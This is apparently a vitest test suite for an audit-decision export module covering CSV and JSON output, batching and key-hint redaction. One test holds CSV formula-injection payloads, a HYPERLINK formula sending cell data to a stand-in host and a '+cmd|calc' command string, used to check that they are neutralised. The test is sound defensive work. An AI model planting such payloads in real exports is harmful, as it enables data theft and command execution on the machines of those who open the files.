import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import {
  countDecisions,
  EXPORT_COLUMNS,
  exportAudit,
  exportAuditToBuffer,
  exportDecisions,
  toExportRow,
  type ExportFormat,
  type JsonExportHeader,
} from '../../src/audit/export.js';
import { queryRows } from '../../src/db/client.js';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';
import { parseCsv } from './csv-reader.js';
import { EVIL_REASON, GENERATED_AT, MARCH, seedScenario, type ExpectedDecision, type Scenario } from './scenario.js';

/** The row an auditor must get for a decision, written out from what was appended. */
function expectedRow(d: ExpectedDecision): Record<string, string | number | null> {
  const ev = d.evidence;
  return {
    seq: d.seq,
    decided_at: d.at.toISOString(),
    // No organisation was identified in this scenario (rows written without one).
    organization: null,
    organization_id: null,
    review_item_id: d.reviewItemId,
    subject_type: ev.subject.type,
    subject_id: ev.subject.id,
    subject: ev.subject.label,
    access_type: ev.access.kind,
    role: ev.access.role ?? null,
    workspace_id: ev.access.workspaceId ?? null,
    workspace_name: ev.access.workspaceName ?? null,
    key_hint: ev.access.keyHint ?? null,
    owner: ev.owner.email ?? ev.owner.slackId,
    decision: d.decision,
    decided_by: d.actor.type === 'slack_user' ? d.actor.slackId : `system:${d.actor.job}`,
    decided_by_anthropic_id: d.actor.type === 'slack_user' ? (d.actor.anthropicId ?? null) : null,
    reason: d.reason,
    keep_until: d.keepUntil,
    last_activity_at: ev.lastActivity?.at ?? null,
    activity_30d: ev.counts.d30,
    activity_90d: ev.counts.d90,
    requests_30d: ev.usage?.requests30 ?? null,
    tokens_30d: ev.usage?.tokens30 ?? null,
    summary: ev.reading?.text ?? null,
    summary_by: ev.reading ? (ev.reading.source === 'claude' ? `claude:${ev.reading.model}` : 'template') : null,
    approved_purpose: ev.approval?.purpose ?? null,
    action_result: d.action?.outcome ?? null,
    action_at: d.action?.at.toISOString() ?? null,
    action_error: d.action?.error ?? null,
    policy_version: 'pol-7',
    audit_hash: d.hash,
  };
}

async function run(t: TestDatabase, format: ExportFormat, opts: Partial<Parameters<typeof exportAudit>[1]> = {}) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const summary = await exportAudit(t.db, { ...MARCH, now: GENERATED_AT, ...opts, format }, out);
  out.end();
  return { summary, text: Buffer.concat(chunks).toString('utf8') };
}

/** What a CSV cell must read for a value: numbers as digits, null as empty, formula starts defused. */
const cell = (v: string | number | null): string =>
  v === null ? '' : typeof v === 'number' ? String(v) : /^[=+\-@\t\r\n]/.test(v) ? `'${v}` : v;

describe('audit export', () => {
  let t: TestDatabase;
  let s: Scenario;
  beforeAll(async () => {
    t = await createTestDatabase();
    s = await seedScenario(t.db);
  });
  afterAll(async () => t.destroy());

  it('reads one row per decision in the period, matching what was appended, whatever the batch size', async () => {
    expect(s.march).toHaveLength(8);
    for (const batchSize of [1, 3, 1000]) {
      const rows = [];
      for await (const d of exportDecisions(t.db, { ...MARCH, batchSize })) rows.push(toExportRow(d));
      expect(rows).toEqual(s.march.map(expectedRow));
    }
  });

  it('matches the database row for row', async () => {
    const db = await queryRows<{ seq: number | string; hash: string; outcome: string }>(
      t.db,
      sql`select seq, hash, outcome from audit_log
          where action = 'review.decided' and at >= ${MARCH.since.toISOString()}::timestamptz and at < ${MARCH.until.toISOString()}::timestamptz
          order by seq`,
    );
    const rows = [];
    for await (const d of exportDecisions(t.db, MARCH)) rows.push({ seq: d.seq, hash: d.hash, outcome: d.decision });
    expect(rows).toEqual(db.map((r) => ({ seq: Number(r.seq), hash: r.hash, outcome: r.outcome })));
    expect(await countDecisions(t.db, MARCH)).toBe(db.length);
  });

  it('pairs each decision with its latest action, and not with the action of a later decision', async () => {
    const byItem = new Map<string, string | null>();
    for await (const d of exportDecisions(t.db, MARCH))
      byItem.set(`${d.reviewItemId}/${d.decision}`, d.action ? `${d.action.outcome}#${d.action.attempt}` : null);
    expect(Object.fromEntries(byItem)).toEqual({
      'ri_keep/keep': null,
      'ri_revoke/revoke': 'succeeded#2',
      'ri_notmine/not_mine': null,
      'ri_evil/keep': null,
      'ri_timeout/timeout_revoke': 'dry_run#1',
      'ri_twice/not_mine': null,
      'ri_twice/revoke': 'succeeded#1',
      'ri_ack/acknowledge': null,
    });
  });

  it('filters by review item, and with no start reads from the first row', async () => {
    const rows = [];
    for await (const d of exportDecisions(t.db, { reviewItemId: 'ri_twice' })) rows.push(d.decision);
    expect(rows).toEqual(['not_mine', 'revoke']);
    expect(await countDecisions(t.db, {})).toBe(s.all.length);
  });

  it('CSV: RFC 4180, every field quoted, CRLF, header then the same rows', async () => {
    const { summary, text } = await run(t, 'csv');
    expect(summary).toMatchObject({ format: 'csv', rows: 8, chain: null });
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records[0]).toEqual([...EXPORT_COLUMNS]);
    expect(records.slice(1)).toEqual(s.march.map((d) => EXPORT_COLUMNS.map((c) => cell(expectedRow(d)[c]!))));
  });

  it('CSV: formula-like cells are neutralised; commas, quotes and line breaks survive', async () => {
    const { text } = await run(t, 'csv', { reviewItemId: 'ri_evil' });
    const [header, row] = parseCsv(text);
    const get = (c: string) => row![header!.indexOf(c)];
    expect(get('reason')).toBe(`'${EVIL_REASON}`);
    expect(get('subject')).toBe("'+cmd|calc");
    expect(get('owner')).toBe("'-2+3@example.com");
    // On the wire: the quote is doubled and the cell starts with the apostrophe inside its quotes.
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click""), then\r\nsecond line, ""quoted"""');
    const notmine = parseCsv((await run(t, 'csv', { reviewItemId: 'ri_notmine' })).text);
    expect(notmine[1]![header!.indexOf('subject')]).toBe('shared, "team" key');
    const revoke = parseCsv((await run(t, 'csv', { reviewItemId: 'ri_revoke' })).text);
    expect(revoke[1]![header!.indexOf('subject')]).toBe("'@old-laptop");
    expect(revoke[1]![header!.indexOf('activity_30d')]).toBe('0');
  });

  it('CSV: no cell anywhere in the export starts with a formula character', async () => {
    const { text } = await run(t, 'csv', { since: undefined, until: undefined });
    for (const record of parseCsv(text)) for (const v of record) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('JSON: a header with the period, the count and the chain result, then the rows with their evidence', async () => {
    const now = new Date('2025-04-02T08:00:00Z');
    const { summary, text } = await run(t, 'json', { now });
    const doc = JSON.parse(text) as JsonExportHeader & { rows: (Record<string, unknown> & { evidence: unknown })[] };
    expect(doc).toMatchObject({
      format: 'steward.audit.decisions/1',
      generated_at: now.toISOString(),
      period: { since: MARCH.since.toISOString(), until: MARCH.until.toISOString() },
      review_item_id: null,
      snapshot_seq: s.rows,
      row_count: 8,
      chain: { ok: true, rows_verified: s.rows, problem: null },
    });
    expect(doc.chain.head?.seq).toBe(s.rows);
    expect(summary).toMatchObject({ format: 'json', rows: 8, snapshotSeq: s.rows, chain: { ok: true } });
    expect(doc.rows.map(({ evidence: _evidence, ...row }) => row)).toEqual(s.march.map(expectedRow));
    expect(doc.rows.map((r) => r.evidence)).toEqual(s.march.map((d) => d.evidence));
    // Raw values in JSON: formula neutralisation is a CSV concern only.
    expect(doc.rows.find((r) => r.review_item_id === 'ri_evil')?.reason).toBe(EVIL_REASON);
  });

  it('JSON: an empty period is still a valid document', async () => {
    const { text } = await run(t, 'json', { since: new Date('2030-01-01T00:00:00Z'), until: undefined });
    const doc = JSON.parse(text) as { rows: unknown[]; row_count: number; period: { until: string | null } };
    expect(doc).toMatchObject({ rows: [], row_count: 0, period: { until: null } });
  });

  it('never exports key material beyond the hint', async () => {
    const { text } = await run(t, 'json', { since: undefined, until: undefined });
    expect(text).toContain('sk-ant-api03-abc...xyz');
    expect(text).not.toMatch(/sk-ant-(?!api03-abc\.\.\.xyz)/);
  });

  it('in memory, with a file name, for an uploader', async () => {
    const r = await exportAuditToBuffer(t.db, {
      since: MARCH.since,
      until: MARCH.until,
      format: 'csv',
      now: GENERATED_AT,
    });
    expect(r.filename).toBe('steward-audit-2025-03-01_2025-04-01.csv');
    expect(parseCsv(r.content.toString('utf8'))).toHaveLength(1 + s.march.length);
    expect(r.summary.rows).toBe(s.march.length);
  });
});
